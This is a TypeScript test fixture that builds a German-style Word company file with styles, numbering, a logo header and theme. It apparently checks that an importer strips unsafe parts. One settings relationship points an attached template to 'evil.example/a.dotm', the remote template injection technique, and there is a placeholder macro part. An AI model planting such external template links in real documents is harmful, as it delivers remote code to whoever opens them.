import { strToU8, zipSync } from "fflate";

/**
 * A company's file as Word in German writes it: Letter, other fonts and colours, a header with a logo
 * and a name, numbered headings, its own bullets, and what must not come along: an attached template,
 * a macro, its words.
 */

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A PNG of one pixel. */
export const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

/** Relationships of a part: type, target, and whether it lies outside. */
export const relationships = (...entries: [type: string, target: string, external?: true][]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries
    .map(
      ([type, target, external], index) =>
        `<Relationship Id="rId${index + 1}" Type="${TYPES}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/>`,
    )
    .join("")}</Relationships>`;

const style = (type: string, id: string, name: string, content: string, more = "") =>
  `<w:style w:type="${type}"${more} w:styleId="${id}"><w:name w:val="${name}"/>${content}</w:style>`;

const STYLES = `<w:styles ${W} xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="w14"><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/><w:sz w:val="22"/><w:lang w:val="de-DE"/></w:rPr></w:rPrDefault><w:pPrDefault/></w:docDefaults>${[
  style("paragraph", "Standard", "Normal", "<w:qFormat/>", ' w:default="1"'),
  style("character", "Absatz-Standardschriftart", "Default Paragraph Font", "", ' w:default="1"'),
  style(
    "paragraph",
    "berschrift1",
    "heading 1",
    '<w:basedOn w:val="Standard"/><w:pPr><w:keepNext/><w:numPr><w:numId w:val="4"/></w:numPr><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:color w:val="B00020"/><w:sz w:val="40"/><w:lang w:val="de-DE"/></w:rPr>',
  ),
  style(
    "paragraph",
    "Titel",
    "Title",
    '<w:rPr><w:color w:val="B00020"/><w:sz w:val="72"/></w:rPr>',
  ),
  style("paragraph", "Title", "Acme Claim", '<w:basedOn w:val="Titel"/>', ' w:customStyle="1"'),
  style(
    "paragraph",
    "Aufzhlungszeichen",
    "List Bullet",
    '<w:basedOn w:val="Standard"/><w:pPr><w:numPr><w:numId w:val="7"/></w:numPr></w:pPr>',
  ),
  style(
    "paragraph",
    "Verzeichnis1",
    "toc 1",
    '<w:basedOn w:val="Standard"/><w:pPr><w:keepNext/><w:spacing w:after="100"/></w:pPr>',
  ),
  style("paragraph", "Kopfzeile", "header", '<w:basedOn w:val="Standard"/>'),
].join("")}</w:styles>`;

const level = (format: string, text: string) =>
  `<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="${format}"/><w:lvlText w:val="${text}"/><w:lvlJc w:val="left"/><w:pPr><w:ind w:left="500" w:hanging="500"/></w:pPr></w:lvl>`;
const definition = (id: number, content: string) =>
  `<w:abstractNum w:abstractNumId="${id}"><w:multiLevelType w:val="multilevel"/>${content}</w:abstractNum>`;
const numbering = (id: number, of: number) =>
  `<w:num w:numId="${id}"><w:abstractNumId w:val="${of}"/></w:num>`;
const NUMBERING = `<w:numbering ${W}>${definition(0, level("decimal", "%1"))}${definition(1, level("bullet", "»"))}${definition(2, level("bullet", "unused"))}${numbering(4, 0)}${numbering(7, 1)}${numbering(8, 2)}</w:numbering>`;

const SECTION =
  '<w:sectPr><w:headerReference w:type="default" r:id="rId4"/><w:footerReference w:type="default" r:id="rId5"/><w:pgSz w:w="12240" w:h="15840"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1800" w:header="720" w:footer="720" w:gutter="0"/><w:cols w:space="720"/><w:docGrid w:linePitch="360"/></w:sectPr>';

const LOGO =
  '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" distT="0" distB="0" distL="0" distR="0"><wp:extent cx="360000" cy="360000"/><wp:docPr id="1" name="Logo" descr="Acme"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="Logo"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" cy="360000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>';

const THEME = `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Acme"><a:themeElements><a:clrScheme name="Acme">${["dk1", "lt1", "dk2", "lt2", "accent1", "accent2", "accent3", "accent4", "accent5", "accent6", "hlink", "folHlink"].map((name) => `<a:${name}><a:srgbClr val="${name === "lt1" ? "FFFFFF" : "B00020"}"/></a:${name}>`).join("")}</a:clrScheme><a:fontScheme name="Acme"><a:majorFont><a:latin typeface="Georgia"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Verdana"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="Acme"><a:fillStyleLst>${'<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'.repeat(3)}</a:fillStyleLst><a:lnStyleLst>${'<a:ln w="6350"/>'.repeat(3)}</a:lnStyleLst><a:effectStyleLst>${"<a:effectStyle><a:effectLst/></a:effectStyle>".repeat(3)}</a:effectStyleLst><a:bgFillStyleLst>${'<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'.repeat(3)}</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`;

/** The content of a header part. */
export const header = (content: string): string =>
  `<w:hdr ${W} ${R}><w:p><w:pPr><w:pStyle w:val="Kopfzeile"/></w:pPr>${content}</w:p></w:hdr>`;

/** A run of text. */
export const words = (text: string): string => `<w:r><w:t>${text}</w:t></w:r>`;

const PARTS: Record<string, string | Uint8Array> = {
  "[Content_Types].xml":
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  "word/document.xml": `<w:document ${W} ${R}><w:body><w:p>${words("Secret words")}</w:p>${SECTION}</w:body></w:document>`,
  "word/_rels/document.xml.rels": relationships(
    ["styles", "styles.xml"],
    ["numbering", "numbering.xml"],
    ["theme", "theme/theme1.xml"],
    ["header", "header3.xml"],
    ["footer", "footer1.xml"],
    ["vbaProject", "vbaProject.bin"],
  ),
  "word/styles.xml": STYLES,
  "word/numbering.xml": NUMBERING,
  "word/theme/theme1.xml": THEME,
  "word/header3.xml": header(`${LOGO}${words("Acme Corporation")}`),
  "word/_rels/header3.xml.rels": relationships(["image", "media/logo.png"]),
  "word/footer1.xml": `<w:ftr ${W} ${R}><w:p><w:fldSimple w:instr=" PAGE ">${words("1")}</w:fldSimple></w:p></w:ftr>`,
  "word/media/logo.png": PNG,
  "word/vbaProject.bin": strToU8("macro"),
  "word/settings.xml": `<w:settings ${W} ${R}><w:attachedTemplate r:id="rId1"/><w:mirrorMargins/><w:defaultTabStop w:val="708"/></w:settings>`,
  "word/_rels/settings.xml.rels": relationships([
    "attachedTemplate",
    "https://evil.example/a.dotm",
    true,
  ]),
};

/** The file, with other parts in place of its own; one that is null is left out. */
export function companyFile(others: Record<string, string | Uint8Array | null> = {}): Uint8Array {
  const all = Object.entries({ ...PARTS, ...others });
  const kept = all.flatMap(([path, each]): [string, Uint8Array][] =>
    each === null ? [] : [[path, typeof each === "string" ? strToU8(each) : each]],
  );
  return zipSync(Object.fromEntries(kept), { mtime: new Date(2020, 1, 1) });
}
